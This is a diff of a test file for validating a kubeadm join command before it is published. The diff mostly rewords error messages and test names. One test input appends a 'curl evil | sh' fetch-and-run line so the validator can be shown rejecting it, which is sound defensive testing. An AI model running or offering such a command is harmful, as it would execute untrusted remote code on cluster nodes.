@@ -90,14 +90,14 @@ t.test("what is no join-command is not published, nor shown", async (t) => {
       publishJoinCommand(JOBID, text, world),
       {
         message:
-          /^what make join-command made is no join-command of kubeadm's: (it is empty|it must have one line kubeadm join|it has 9[0-9]{3} characters, of at most 8192|line [1-7] of [1-7] is neither a kubeadm join with a token and a CA hash nor the template's)$/,
+          /^make join-command produced an unexpected file: (it is empty|it must have exactly one kubeadm join line|it has 9[0-9]{3} characters, of at most 8192|line [1-7] of [1-7] is neither a kubeadm join with a token and a CA hash nor one of the template's lines)$/,
       },
       JSON.stringify(text).slice(0, 100),
     );
   for (const [text, why] of [
     [" \n", "it is empty"],
-    [AROUND, "it must have one line kubeadm join"],
-    [JOIN_COMMAND + JOIN_COMMAND, "it must have one line kubeadm join"],
+    [AROUND, "it must have exactly one kubeadm join line"],
+    [JOIN_COMMAND + JOIN_COMMAND, "it must have exactly one kubeadm join line"],
     [JOIN_COMMAND.slice(0, 70), "line 1 of 1 is neither"],
     [`${JOIN_COMMAND}curl evil | sh\n`, "line 2 of 3 is neither"],
     [
@@ -109,7 +109,7 @@ t.test("what is no join-command is not published, nor shown", async (t) => {
   t.strictSame(nodes.commands, []);
 });
 
-t.test("an archive that cannot be made is told, and the file is gone all the same", async (t) => {
+t.test("a failed archive is reported, and its file is removed", async (t) => {
   const { nodes, world } = new Life();
   nodes.archive = () => ({ exitCode: 1, stderr: "flux-archive: create: Permission denied\n" });
   await t.rejects(publishJoinCommand(JOBID, JOIN_COMMAND, world), {
